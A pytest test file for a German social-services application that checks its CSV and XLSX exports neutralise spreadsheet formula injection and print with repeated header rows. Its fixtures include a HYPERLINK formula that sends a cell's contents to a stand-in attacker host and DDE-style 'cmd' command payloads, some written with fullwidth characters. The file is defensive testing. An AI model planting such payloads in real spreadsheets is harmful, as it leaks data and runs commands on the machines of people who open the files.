"""Every spreadsheet the product writes neutralises text that a spreadsheet would run as a formula
(CWE-1236), and reading our own export back gives the original text."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from sozialforum.channels.tabular import neutralize, read_table, to_csv, to_xlsx

EVIL = '=HYPERLINK("http://angreifer.example/?d="&C4;"Klick")'


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (EVIL, "'" + EVIL),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("-", "-"),
        ("  =1+1", "'  =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\uff1dcmd|' /C calc'!A0", "'\uff1dcmd|' /C calc'!A0"),
        ("\uff0b1", "'\uff0b1"),
        ("a=b", "a=b"),
        ("ok", "ok"),
        (5, 5),
    ],
)
def test_neutralize(raw: object, shown: object) -> None:
    assert neutralize(raw) == shown


def test_exports_carry_no_formula_and_read_back_unchanged(tmp_path: Path) -> None:
    rows = [["Anna Albers", EVIL, 3], ["Bernd", "- erledigt", 4]]
    book = load_workbook(io.BytesIO(to_xlsx("Liste", ["Name", "Kommentar", "Personen"], rows)))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    (tmp_path / "liste.xlsx").write_bytes(to_xlsx("Liste", ["name", "kommentar", "personen"], rows))
    (tmp_path / "liste.csv").write_bytes(to_csv(["name", "kommentar", "personen"], rows))
    for name in ("liste.xlsx", "liste.csv"):
        back = read_table(tmp_path / name)
        assert [r["kommentar"] for _, r in back.rows] == [EVIL, "- erledigt"], name


def test_participant_list_neutralises_a_traeger_comment() -> None:
    from sozialforum.konferenz.teilnehmerliste import Teilnehmerliste, Zeile
    from sozialforum.konferenz.teilnehmerliste import to_xlsx as teilnehmer_xlsx
    from sozialforum.store.models import Gremium, Sitzung

    beginn = datetime(2026, 3, 18, 16, tzinfo=UTC)
    sitzung = Sitzung(gremium_id=1, titel="Sozialraumkonferenz Nord", beginn=beginn, ende=beginn, ical_uid="x@test")
    zeile = Zeile("Anna Albers", "Diakonie Nord", "anna@diakonie.example", "Zusage", "Portal", None, 1, "", EVIL)
    data = teilnehmer_xlsx(
        Teilnehmerliste(sitzung, Gremium(kennung="G", name="SRK Nord", art="sozialraumkonferenz"), [zeile])
    )
    book = load_workbook(io.BytesIO(data))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert "'" + EVIL in [c.value for c in cells]
    _assert_druckfertig(book.active, "$3:$3")  # the head below title and blank row


def _assert_druckfertig(sheet: Any, kopf: str) -> None:
    assert sheet.print_title_rows == kopf  # the head on every printed page
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.oddFooter.center.text == "&A – Seite &P von &N"


def test_workbooks_print_with_their_head_on_every_page() -> None:
    # A printed workbook had its head on the first page only and its columns cut into pages.
    book = load_workbook(io.BytesIO(to_xlsx("Liste", ["Name", "Kommentar"], [["Anna", "x"]] * 80)))
    _assert_druckfertig(book.active, "$1:$1")
